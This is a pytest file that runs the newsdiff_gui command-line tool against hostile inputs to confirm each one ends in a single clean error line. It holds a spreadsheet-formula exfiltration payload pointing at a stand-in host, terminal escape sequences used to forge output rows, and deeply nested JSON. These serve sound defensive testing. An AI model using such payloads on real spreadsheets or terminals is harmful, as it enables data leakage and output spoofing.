"""Issue 19 from the command line: hostile inputs end in one line, never a traceback.

Each case runs ``python -m newsdiff_gui`` in a subprocess, as a user would:
exit 2 for usage errors, 3 for input errors, every problem one line naming
the file and the reason, and no internal-error log written.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from support.exercises import copy_example_exercise
from support.hostile_files import SECRET, hostile_set
from support.locations import DATA, ROOT

from newsdiff_gui.engine.exercise import example_exercise_path
from newsdiff_gui.engine.load.articles import MAX_TEXT_CHARS
from newsdiff_gui.engine.report.spreadsheet_safe import FORMULA_STARTS

SUBMISSIONS = DATA / "exercise"
EXAMPLE = example_exercise_path()
GOOD_A = "Storm closes three ports\n\nA storm closed three ports on Friday, officials said.\n"
GOOD_B = "Ports shut by storm\n\nThree ports were shut on Friday, port officials said.\n"


def newsdiff(*args: str | Path, env: dict[str, str] | None = None, timeout: float = 120):
    return subprocess.run(
        [sys.executable, "-m", "newsdiff_gui", *map(os.fspath, args)],
        cwd=ROOT,
        capture_output=True,
        timeout=timeout,
        env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})},
    )


def _log_dir() -> Path:
    """This test's private log folder (``conftest`` sets it)."""
    return Path(os.environ["NEWSDIFF_LOG_DIR"])


def _lines(stream: bytes) -> list[str]:
    return stream.decode("utf-8", "replace").splitlines()


def _no_internal_error(done: subprocess.CompletedProcess[bytes]) -> None:
    err = done.stderr.decode("utf-8", "replace")
    assert "Traceback" not in err and "internal error" not in err, err
    assert not list(_log_dir().glob("internal-error-*.log"))


@pytest.fixture
def good(tmp_path: Path) -> tuple[Path, Path]:
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text(GOOD_A, encoding="utf-8")
    b.write_text(GOOD_B, encoding="utf-8")
    return a, b


# ---------------------------------------------------------------- item 2


def test_manifest_cannot_pull_files_from_outside_into_an_export(tmp_path: Path) -> None:
    folder, secret = hostile_set(tmp_path)
    out = tmp_path / "report.json"
    done = newsdiff("export", folder, "--format", "json", "-o", out)
    assert done.returncode == 0, done.stderr
    _no_internal_error(done)
    assert SECRET not in out.read_text("utf-8")
    warnings = [line for line in _lines(done.stderr) if "outside" in line or "absolute" in line]
    assert len(warnings) == 4 and all(w.startswith("newsdiff: warning: ") for w in warnings)
    assert str(secret) in "".join(warnings)  # the absolute entry is named as listed
    json.loads(out.read_text("utf-8"))


# ---------------------------------------------------------------- item 3

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


def _formula_cells(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
    return [c for row in rows[1:] for c in row if c.lstrip(" \n").startswith(FORMULA_STARTS)]


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text(GOOD_A + "\nThe port authority said it would reopen on Monday.\n", "utf-8")
    b.write_text(GOOD_B + f"\n{FORMULA} was added as a sentence of its own.\n", "utf-8")
    export_csv, changes_csv = tmp_path / "export.csv", tmp_path / "changes.csv"
    done = newsdiff("export", a, b, "--format", "csv", "-o", export_csv)
    assert done.returncode == 0, done.stderr
    done = newsdiff("changes", a, b, "--csv", "-o", changes_csv)
    assert done.returncode == 0, done.stderr
    for written in (export_csv, changes_csv):
        rows = list(csv.reader(io.StringIO(written.read_text("utf-8"))))
        assert any(cell.startswith("'" + FORMULA) for row in rows for cell in row), rows
        assert _formula_cells(written) == []


def test_grade_sheet_neutralises_a_student_named_like_a_formula(tmp_path: Path) -> None:
    submission = json.loads((SUBMISSIONS / "cy-empty.json").read_text("utf-8"))
    submission["student"] = FORMULA
    hostile = tmp_path / "=evil.json"
    hostile.write_text(json.dumps(submission), "utf-8")
    sheet = tmp_path / "grades.csv"
    done = newsdiff("exercise", "check", EXAMPLE, hostile, "--csv", sheet)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(sheet.read_text("utf-8"))))
    assert rows[1][0] == "'" + FORMULA
    assert _formula_cells(sheet) == []


# ---------------------------------------------------------------- item 5


def _cpu_seconds(pid: int) -> float:
    """CPU time a Linux process has used so far (utime + stime)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_ctrl_c_during_a_long_alignment_is_one_line_and_exit_130(tmp_path: Path) -> None:
    from support.synthetic import synthetic_set

    paths = []
    for version in synthetic_set(2, words=40_000, seed=5, spin=0.2):
        path = tmp_path / version.name
        path.write_text(version.text[: MAX_TEXT_CHARS - 1000], "utf-8")
        paths.append(str(path))
    process = subprocess.Popen(
        [sys.executable, "-m", "newsdiff_gui", "align", *paths, "--json"],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        # A test run started in the background inherits SIGINT ignored, and
        # Python keeps it so: the child must get Ctrl+C as a terminal gives it.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    # Wait until it is into the work: imports take about 0.3 s of CPU, the
    # whole run about 2.7 s.
    deadline = time.monotonic() + 60
    while _cpu_seconds(process.pid) < 0.8 and time.monotonic() < deadline:
        assert process.poll() is None, "finished before it could be interrupted"
        time.sleep(0.01)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130
    assert err.decode() == "newsdiff: interrupted\n"


# ---------------------------------------------------------------- item 6


def test_malformed_submissions_are_skipped_and_the_class_is_graded(tmp_path: Path) -> None:
    base = json.loads((SUBMISSIONS / "ben-partial.json").read_text("utf-8"))
    broken = []
    for field, value in (("choices", ["A"]), ("texts", 5), ("marks", {"a": 1})):
        data = json.loads(json.dumps(base))
        data["answers"][field] = value
        path = tmp_path / f"bad-{field}.json"
        path.write_text(json.dumps(data), "utf-8")
        broken.append(path)
    deep = tmp_path / "bad-deep.json"
    deep.write_text("{" + '"a":{' * 100_000 + "}" * 100_001, "utf-8")
    broken.append(deep)
    sheet = tmp_path / "grades.csv"
    done = newsdiff(
        "exercise", "check", EXAMPLE, SUBMISSIONS / "ada-perfect.json", *broken,
        SUBMISSIONS / "cy-empty.json", "--csv", sheet,
    )  # fmt: skip
    _no_internal_error(done)
    assert done.returncode == 3
    out = _lines(done.stdout)
    assert any(line.startswith("Ada Perfect") and "100%" in line for line in out)
    assert any(line.startswith("Cy Empty") for line in out)
    for path in broken:
        assert sum(line.startswith(f"{path.name}: not checked: ") for line in out) == 1
    rows = list(csv.reader(io.StringIO(sheet.read_text("utf-8"))))
    assert len(rows) == 1 + 2 + len(broken)


# ---------------------------------------------------------------- item 7


def test_export_sets_a_corrupt_notes_file_aside_and_goes_on(good, tmp_path: Path) -> None:
    from newsdiff_gui.engine.annotate.notes import NotesStore
    from newsdiff_gui.engine.load.articles import load_article_set

    notes = NotesStore(load_article_set(list(good))).path
    notes.parent.mkdir(parents=True, exist_ok=True)
    notes.write_text('{"schema": "newsdiff-notes/1", "notes": 5}', "utf-8")
    out = tmp_path / "report.html"
    done = newsdiff("export", *good, "--format", "html", "-o", out)
    _no_internal_error(done)
    assert done.returncode == 0 and out.is_file()
    (warning,) = _lines(done.stderr)
    assert warning.startswith("newsdiff: warning: notes: ") and ".bak" in warning
    again = newsdiff("export", *good, "--format", "html", "-o", out)
    assert again.returncode == 0 and again.stderr == b""


# ---------------------------------------------------------------- item 8


def _one_error_line(done, code: int, *needles: str) -> str:
    _no_internal_error(done)
    assert done.returncode == code, done.stderr
    (line,) = _lines(done.stderr)
    assert line.startswith("newsdiff") and all(n in line for n in needles), line
    return line


def test_a_manifest_nested_thousands_deep_is_one_input_error(good, tmp_path: Path) -> None:
    manifest = tmp_path / "newsdiff.json"
    manifest.write_text("[" * 50_000 + "]" * 50_000, "utf-8")
    done = newsdiff("align", tmp_path)
    _one_error_line(done, 3, str(manifest), "nested too deeply")


def _exercise_copy(tmp_path: Path) -> Path:
    return copy_example_exercise(tmp_path / "exercise")


def test_a_key_nested_thousands_deep_is_one_input_error(tmp_path: Path) -> None:
    folder = _exercise_copy(tmp_path)
    (folder / "key.json").write_text("{" + '"a":{' * 50_000 + "}" * 50_001, "utf-8")
    done = newsdiff("exercise", "check", folder, SUBMISSIONS / "cy-empty.json")
    _one_error_line(done, 3, "key.json is nested too deeply")


def test_a_task_number_of_5000_digits_is_one_input_error(tmp_path: Path) -> None:
    folder = _exercise_copy(tmp_path)
    markdown = (folder / "exercise.md").read_text("utf-8")
    (folder / "exercise.md").write_text(
        markdown.replace("## Task 1:", "## Task 1" + "0" * 5000 + ":"), "utf-8"
    )
    done = newsdiff("exercise", "check", folder, SUBMISSIONS / "cy-empty.json")
    _one_error_line(done, 3, "exercise.md line", "is too large")


def test_diff_of_a_folder_and_a_file_is_a_usage_error(good, tmp_path: Path) -> None:
    third = tmp_path / "other" / "c.txt"
    third.parent.mkdir()
    third.write_text("A third version\n\nPorts closed on Friday, a spokesman said.\n", "utf-8")
    done = newsdiff("diff", good[0].parent, third)
    _one_error_line(done, 2, "give two files")


def test_a_file_name_that_is_not_utf8_works_everywhere(good, tmp_path: Path) -> None:
    odd = Path(os.fsdecode(bytes(tmp_path) + b"/b\xff\xfe.txt"))
    odd.write_text(GOOD_B, "utf-8")
    strict = {"PYTHONIOENCODING": "utf-8:strict"}
    for args in (("align", "--text"), ("changes",), ("diff",), ("align", "--json")):
        done = newsdiff(*args, good[0], odd, env=strict)
        _no_internal_error(done)
        assert done.returncode == 0, (args, done.stderr)
        if args != ("align", "--text"):  # the unit listing names no file
            assert b"b\\udcff\\udcfe.txt" in done.stdout, args
    out = tmp_path / "report.json"
    done = newsdiff("export", good[0], odd, "--format", "json", "-o", out, env=strict)
    assert done.returncode == 0, done.stderr
    paths = [d["path"] for d in json.loads(out.read_text("utf-8"))["documents"]]
    assert paths[1] == str(odd)  # the escape reads back as the same name


def test_a_quotation_of_only_emoji_is_read_without_error(tmp_path: Path) -> None:
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text(
        "Fans cheer\n\n“😀 😁 🎉 😀 😁 🎉” the fans wrote on Friday, officials said.\n", "utf-8"
    )
    b.write_text(
        "Fans cheer\n\n“🎉 🎉 ★ ★ 😀 😀” the fans wrote on Friday, officials said.\n", "utf-8"
    )
    done = newsdiff("changes", a, b, "--json")
    _no_internal_error(done)
    assert done.returncode == 0
    json.loads(done.stdout)


# ---------------------------------------------------------------- item 9

ESCAPES = "\x1b]0;owned\x07\x1b[2J"


def test_names_with_escape_sequences_and_newlines_are_shown_escaped(good, tmp_path: Path) -> None:
    odd = tmp_path / f"b{ESCAPES}\nforged.txt"
    odd.write_text(GOOD_B, "utf-8")
    for args in (("diff",), ("changes",), ("profile",)):
        done = newsdiff(*args, good[0], odd)
        assert done.returncode == 0, (args, done.stderr)
        assert b"\x1b" not in done.stdout and b"\x07" not in done.stdout, args
        assert b"b\\x1b]0;owned\\x07\\x1b[2J\\nforged.txt" in done.stdout, args
    missing = tmp_path / f"gone{ESCAPES}\n.txt"
    done = newsdiff("align", good[0], good[1], missing)
    assert b"\x1b" not in done.stderr and len(_lines(done.stderr)) == 1


def test_a_student_name_cannot_forge_a_row_of_the_grade_table(tmp_path: Path) -> None:
    data = json.loads((SUBMISSIONS / "cy-empty.json").read_text("utf-8"))
    data["student"] = f"Mallory{ESCAPES}\nAda Perfect             100%  100%"
    hostile = tmp_path / "mallory.json"
    hostile.write_text(json.dumps(data), "utf-8")
    done = newsdiff("exercise", "check", EXAMPLE, hostile, SUBMISSIONS / "cy-empty.json")
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in done.stdout
    rows = _lines(done.stdout)[2:]
    assert len(rows) == 2 and rows[0].startswith("Mallory\\x1b]0;owned")
    assert not any(row.startswith("Ada Perfect") for row in rows)


def test_a_folder_past_the_version_limit_is_two_warning_lines(tmp_path: Path) -> None:
    from newsdiff_gui.engine.load.set_limits import MAX_VERSIONS

    for number in range(MAX_VERSIONS + 25):
        (tmp_path / f"{number:05d}.txt").write_text(
            f"Story {number}\n\nThe council met {number} times, officials said.\n", "utf-8"
        )
    done = newsdiff("changes", tmp_path, "--json")
    _no_internal_error(done)
    assert done.returncode == 0
    warnings = _lines(done.stderr)
    assert len(warnings) == 2, warnings
    assert f"already holds {MAX_VERSIONS} versions" in warnings[0]
    assert warnings[1] == "newsdiff: warning: 24 more files left out for the same reason"
